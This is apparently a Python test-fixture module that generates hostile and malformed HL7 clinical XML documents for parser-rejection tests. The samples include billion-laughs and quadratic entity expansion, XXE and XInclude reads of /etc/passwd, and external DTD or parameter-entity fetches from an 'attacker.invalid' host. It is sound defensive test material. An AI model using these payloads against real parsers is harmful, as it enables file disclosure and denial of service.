"""XML that means harm, or is simply broken, for every test that lets a stranger's document in.

Each function returns bytes made on the spot; nothing here reads a file, and the external references point at names that
do not exist. `hostile_documents` lists them all by name. What may not live here: well-behaved documents (`ops.demo`).
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

HL7: Final = "urn:hl7-org:v3"

_HEADER: Final = """\
<typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
<id root="1.2.3.4" extension="A1"/>
<code code="11488-4" codeSystem="2.16.840.1.113883.6.1" displayName="CR ou fiche de consultation ou de visite"/>
<title>Consultation</title>
<effectiveTime value="20240102101500+0100"/>
<confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/>
<languageCode code="fr-FR"/>
<recordTarget><patientRole><id root="1.2.250.1.213.1.4.11" extension="1"/></patientRole></recordTarget>
<author><time value="20240102101500+0100"/><assignedAuthor><id root="1.2.250.1.71.4.2.1" extension="8"/>
</assignedAuthor></author>
"""


def document(header: str = _HEADER, *, before: str = "", body: str = "", attributes: str = "") -> bytes:
    """Return a small ClinicalDocument that is read without complaint unless an argument spoils it."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<ClinicalDocument xmlns="{HL7}"{attributes}>\n{header}'
        f"<component><structuredBody>{body}</structuredBody></component>\n</ClinicalDocument>\n"
    ).encode()


def header_with(replace: str, by: str) -> bytes:
    """Return the small document with one piece of its header replaced. The piece must be there."""
    if replace not in _HEADER:
        raise ValueError("the piece to replace is not in the header")
    return document(_HEADER.replace(replace, by))


def billion_laughs() -> bytes:
    """Ten levels of entities, each ten times the one before."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return document(before=f'<!DOCTYPE z [<!ENTITY l0 "ha">{levels}]>', body="&l9;")


def quadratic_blowup() -> bytes:
    """One long entity, used many times."""
    return document(before=f'<!DOCTYPE z [<!ENTITY a "{"a" * 50_000}">]>', body="&a;" * 10_000)


def external_entity(uri: str = "file:///etc/passwd") -> bytes:
    """An entity that would bring a file in, as the title."""
    header = _HEADER.replace("Consultation", "&file;")
    return document(header, before=f'<!DOCTYPE z [<!ENTITY file SYSTEM "{uri}">]>')


def parameter_entity(uri: str = "http://attacker.invalid/evil.dtd") -> bytes:
    """A parameter entity that would fetch more declarations."""
    return document(before=f'<!DOCTYPE z [<!ENTITY % more SYSTEM "{uri}"> %more;]>')


def external_dtd(uri: str = "http://attacker.invalid/evil.dtd") -> bytes:
    """A document type definition kept elsewhere."""
    return document(before=f'<!DOCTYPE ClinicalDocument SYSTEM "{uri}">')


def doctype_after_comments() -> bytes:
    """A DOCTYPE hidden behind comments and processing instructions."""
    prolog = '<!-- <a> --><?x <b> ?>\n<!-- > <!DOCTYPE no> -->\n<!DOCTYPE z [<!ENTITY a "b">]>'
    return document(before=prolog)


def xinclude(uri: str = "file:///etc/passwd") -> bytes:
    """A well-formed document whose title asks to include a file. Read as nothing at all."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}" parse="text"/>'
    return header_with("Consultation", include)


def deep_nesting(depth: int = 100_000) -> bytes:
    """Elements within elements in the body."""
    return document(body="<a>" * depth + "</a>" * depth)


def many_elements(count: int = 1_000_000) -> bytes:
    """A body of empty elements."""
    return document(body="<a/>" * count)


def many_attributes(count: int = 1_000_000) -> bytes:
    """One element with a great many attributes."""
    return document(body="<a " + " ".join(f'a{n}=""' for n in range(count)) + "/>")


def many_names(count: int = 100_000, *, length: int = 8) -> bytes:
    """Elements of ever different names of that length: parsers remember names."""
    return document(body="".join(f"<n{n:0{length - 1}}/>" for n in range(count)))


def huge_attribute(characters: int = 20_000_000) -> bytes:
    """A header attribute of many megabytes."""
    return header_with('displayName="CR', f'displayName="{"x" * characters}CR')


def huge_text(characters: int = 20_000_000) -> bytes:
    """A title of many megabytes."""
    return header_with("Consultation", "x" * characters)


def truncated() -> bytes:
    """A document whose end was lost, after a complete header."""
    return document()[:-30]


def nul_bytes() -> bytes:
    """NUL characters in the title."""
    return document().replace(b"Consultation", b"Consul\x00tation")


def invalid_utf8() -> bytes:
    """Declared UTF-8, with ISO-8859-1 bytes in it."""
    return header_with("Consultation", "Été").decode().encode("iso-8859-1")


def unknown_encoding(name: str = "UTF-7") -> bytes:
    """An encoding under which markup does not look like markup."""
    return document().replace(b'encoding="UTF-8"', f'encoding="{name}"'.encode())


def utf7() -> bytes:
    """The document in UTF-7: its tags are not `<`."""
    text = document().decode().replace('encoding="UTF-8"', 'encoding="UTF-7"')
    declaration, rest = text.split("\n", 1)
    return declaration.encode() + b"\n" + rest.encode("utf-7")


def utf32() -> bytes:
    """The document in UTF-32, with its mark."""
    return document().decode().replace("UTF-8", "UTF-32").encode("utf-32")


def two_documents() -> bytes:
    """A ClinicalDocument within another: which one is meant?"""
    inner = document().split(b"\n", 1)[1].decode()
    return document(body=inner)


def two_roots() -> bytes:
    """One document after the other."""
    return document() + document().split(b"\n", 1)[1]


def other_wrapper() -> bytes:
    """A ClinicalDocument inside something that is not a stylesheet."""
    return b"<envelope>" + document().split(b"\n", 1)[1] + b"</envelope>"


def no_namespace() -> bytes:
    """A ClinicalDocument of no namespace."""
    return document().replace(f' xmlns="{HL7}"'.encode(), b"")


def unbound_prefix() -> bytes:
    """A prefix that nothing declares."""
    return document(body="<z:a/>")


def hostile_documents() -> Mapping[str, bytes]:
    """Return every sample that must be refused, by the name of its function."""
    makers = (
        billion_laughs, quadratic_blowup, external_entity, parameter_entity, external_dtd, doctype_after_comments,
        deep_nesting, many_elements, many_attributes, many_names, huge_attribute, huge_text, truncated, nul_bytes,
        invalid_utf8, unknown_encoding, utf7, utf32, two_documents, two_roots, other_wrapper, no_namespace,
        unbound_prefix,
    )  # fmt: skip
    return {maker.__name__: maker() for maker in makers}
